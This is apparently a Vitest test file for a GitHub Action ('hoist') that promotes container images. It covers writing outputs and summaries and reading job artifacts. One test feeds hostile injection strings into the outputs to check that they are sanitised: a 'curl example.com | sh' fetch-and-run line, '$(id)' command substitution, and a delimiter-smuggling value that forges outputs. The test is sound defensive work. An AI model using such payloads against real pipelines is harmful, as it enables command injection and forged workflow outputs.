import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Outcome } from '../../src/domain/plan.ts';
import type { VerifyReport } from '../../src/domain/verify-report.ts';
import { parseRepository } from '../../src/image/reference.ts';
import { readDocuments } from '../../src/action/documents.ts';
import { nothingHappened, outputsAfter, outputsOf, type Outputs } from '../../src/action/outputs.ts';
import { summaryOf, writeSummary } from '../../src/action/summary.ts';
import { check, digestLike, older, plan, result, web } from '../report/examples.ts';

const root = join(import.meta.dirname, '../..');
const folder = mkdtempSync(join(tmpdir(), 'hoist-action-'));

afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Writes outputs in a process of its own, and reads the file as the runner does. */
function outputsInFile(outputs: Outputs): ReadonlyMap<string, string> {
  const file = join(folder, 'output');
  writeFileSync(file, '');
  const script =
    "import { writeOutputs } from './src/action/outputs.ts'; writeOutputs(JSON.parse(process.env.OUTPUTS));";
  const { status, stderr, stdout } = spawnSync(process.execPath, ['--input-type=module', '-e', script], {
    cwd: root,
    encoding: 'utf8',
    env: { ...process.env, GITHUB_OUTPUT: file, OUTPUTS: JSON.stringify(outputs) },
  });
  expect([status, stdout, stderr]).toEqual([0, '', '']);
  const values = new Map<string, string>();
  const text = readFileSync(file, 'utf8');
  for (const match of text.matchAll(/^([^\n<]+)<<(ghadelimiter_\S+)\n([^]*?)\n?\2\n/gm)) {
    values.set(match[1] ?? '', match[3] ?? '');
  }
  return values;
}

describe('when outputs are written', () => {
  it('gives every output of the contract a value even if nothing happened', () => {
    const values = outputsInFile(nothingHappened);
    expect(Object.fromEntries(values)).toEqual({
      outcome: 'none',
      stages: '{}',
      digest: '',
      digests: '{}',
      targets: '',
      'record-id': '',
      'plan-hash': '',
      waves: '{"count":0}',
      result: '{}',
    });
  });

  it('tells a plan', () => {
    const outputs = outputsOf({ kind: 'plan', document: plan, exitCode: 4, notices: [] });
    expect(outputs).toMatchObject({
      outcome: 'conflict',
      stages: '{"web/qa":"ready","web/production":"waiting","api/qa":"conflict"}',
      digest: '',
      digests: JSON.stringify({ 'ghcr.io/acme/dev/web': web, 'ghcr.io/acme/dev/api': older }),
      'plan-hash': plan.stages[0]?.hash,
      'record-id': '',
    });
    expect(JSON.parse(outputs.result)).toEqual(plan);
  });

  it('tells a run, with only those targets that hold the image now', () => {
    const outputs = outputsOf({ kind: 'run', document: result, exitCode: 5, notices: [] });
    expect(outputs).toMatchObject({
      outcome: 'failed',
      stages: '{"web/qa":"promoted","web/production":"waiting","platform/production":"failed"}',
      digest: web,
      targets: `ghcr.io/acme/qa/web@${web}`,
      'record-id': '01JTD3X0M8Q4W2V7K5R9B1N6ZD',
    });
    expect(JSON.parse(outputs.result)).toEqual(result);
  });

  const codes: readonly (readonly [number, Outcome])[] = [
    [1, 'refused'],
    [2, 'failed'],
    [3, 'failed'],
    [4, 'conflict'],
    [5, 'failed'],
  ];

  it.each(codes)('tells an error of exit code %d as %s', (exitCode, outcome) => {
    expect(outputsAfter(exitCode)).toEqual({ ...nothingHappened, outcome });
  });

  it.each([[0, 'none'] as const, ...codes])(
    'tells a command that promotes nothing, and exits with %d, as %s',
    (exitCode, outcome) => {
      const document = { written: [] };
      expect(outputsOf({ kind: 'files', document, exitCode, notices: [] })).toEqual({
        ...nothingHappened,
        outcome,
        result: '{"written":[]}',
      });
    },
  );

  it('tells which image was verified, and as a target only one that got there by promotion', () => {
    const repository = parseRepository('ghcr.io/acme/qa/web');
    const report = { schema: 'hoist/verify/v1', repository, digest: web, unaltered: true } as const;
    const told = (ok: boolean): Partial<Outputs> => {
      const document: VerifyReport = { ...report, ok, promoted: ok, proven: [], problems: [] };
      return outputsOf({ kind: 'verify', document, exitCode: ok ? 0 : 1, notices: [] });
    };
    expect(told(true)).toMatchObject({
      outcome: 'none',
      digest: web,
      targets: `${repository}@${web}`,
    });
    expect(told(false)).toMatchObject({ outcome: 'refused', digest: web, targets: '' });
  });

  it('lets nothing into scalar outputs that a shell or the file could read (A41, A43)', () => {
    const hostile = 'x"; curl example.com | sh #';
    const values = outputsInFile({
      ...nothingHappened,
      digest: hostile,
      'record-id': 'a\nghadelimiter_x\noutcome<<EOF\npromoted\nEOF',
      'plan-hash': '$(id)',
      targets: `ghcr.io/acme/web@${web}\noci:./a folder@${web}\r\noci:./b@${digestLike('1')}`,
      result: JSON.stringify({ comment: `${hostile}\nEOF\r\n` }),
    });
    for (const name of ['outcome', 'digest', 'record-id', 'plan-hash']) {
      for (const line of (values.get(name) ?? '').split('\n')) expect(line).toMatch(/^[A-Za-z0-9_.:/@+-]*$/);
    }
    expect(values.get('outcome')).toBe('none');
    expect(values.get('digest')).toBe('');
    expect(values.get('record-id')).toBe('');
    expect(values.get('targets')).toBe(`ghcr.io/acme/web@${web}\noci:./b@${digestLike('1')}`);
    expect(JSON.parse(values.get('result') ?? '')).toEqual({ comment: `${hostile}\nEOF\r\n` });
  });
});

describe('when the summary is written', () => {
  it('has one for everything that has something to tell', () => {
    expect(summaryOf({ kind: 'plan', document: plan, exitCode: 0, notices: [] })).toMatch(
      /^## .* Plan: conflict\n/,
    );
    expect(summaryOf({ kind: 'run', document: result, exitCode: 0, notices: [] })).toMatch(/^## .* Failed\n/);
    expect(summaryOf({ kind: 'check', document: check, exitCode: 3, notices: [] })).toMatch(/^## /);
    expect(summaryOf({ kind: 'files', document: { written: [] }, exitCode: 0, notices: [] })).toBeUndefined();
  });

  it('adds to what is there, and never makes it too big to be shown', async () => {
    const file = join(folder, 'summary');
    writeFileSync(file, 'before\n');
    expect(await writeSummary(file, '## after\n')).toBeUndefined();
    expect(readFileSync(file, 'utf8')).toBe('before\n## after\n');
    expect(await writeSummary(file, 'x'.repeat(1024 * 1024))).toContain('more than GitHub takes');
    expect(readFileSync(file, 'utf8')).toBe('before\n## after\n');
  });

  it('says why it could not be written, and is no failure', async () => {
    expect(await writeSummary(folder, 'x')).toContain('EISDIR');
  });

  it('leaves it where there is none', async () => {
    expect(await writeSummary(undefined, 'x')).toBeUndefined();
    expect(await writeSummary('', 'x')).toBeUndefined();
  });
});

describe('when the documents of the jobs are read', () => {
  /** The artifacts of one run, as they are downloaded. */
  function artifacts(run: string, texts: Readonly<Record<string, string>>): string {
    const all = join(folder, run);
    for (const [name, text] of Object.entries(texts)) {
      mkdirSync(join(all, name), { recursive: true });
      writeFileSync(join(all, name, 'result.json'), text);
    }
    return all;
  }

  it('takes one that was cut off for a job without a result: the others are told of all the same', async () => {
    const whole = JSON.stringify(result);
    const all = artifacts('torn', {
      'hoist-ab-1-plan': JSON.stringify(plan),
      'hoist-ab-1-web-qa': whole,
      'hoist-ab-1-web-production': whole.slice(0, 100),
    });
    expect(await readDocuments(all)).toEqual({ plan, jobs: [{ attempt: 1, result }] });
  });

  it('says that the plan is missing, also where it was cut off', async () => {
    const all = artifacts('plan', { 'hoist-ab-1-plan': '{"schema":"hoist/plan/v1"' });
    await expect(readDocuments(all)).rejects.toMatchObject({ code: 'RESULTS_MISSING' });
  });
});
